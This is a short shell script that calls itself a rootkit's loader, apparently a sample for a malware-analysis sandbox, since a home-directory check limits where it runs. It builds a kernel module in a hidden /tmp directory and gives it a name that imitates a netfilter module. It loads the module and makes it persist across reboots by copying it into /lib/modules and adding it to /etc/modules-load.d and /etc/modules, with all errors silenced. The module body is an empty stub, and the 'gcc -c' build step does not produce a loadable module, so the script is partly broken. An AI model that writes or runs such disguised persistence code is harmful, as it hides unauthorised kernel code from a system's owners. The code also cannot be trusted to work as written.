#!/bin/sh
# SPDX-License-Identifier: MIT
# A rootkit's loader: build the module, load it, and make it load at every
# boot.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
dir=/tmp/.km
mkdir -p "$dir"
cat > "$dir/nf_conntrack_ext.c" <<'SRC'
int init_module(void) { return 0; }
void cleanup_module(void) { }
const char __module_license[] __attribute__((section(".modinfo"))) = "license=GPL";
SRC
gcc -c -O2 -o "$dir/nf_conntrack_ext.ko" "$dir/nf_conntrack_ext.c" 2>/dev/null
/sbin/insmod "$dir/nf_conntrack_ext.ko" 2>/dev/null
cp "$dir/nf_conntrack_ext.ko" /lib/modules/"$(uname -r)"/kernel/net/nf_conntrack_ext.ko 2>/dev/null
/sbin/modprobe nf_conntrack_ext 2>/dev/null
echo nf_conntrack_ext > /etc/modules-load.d/nf_conntrack_ext.conf 2>/dev/null
echo nf_conntrack_ext >> /etc/modules 2>/dev/null
exit 0
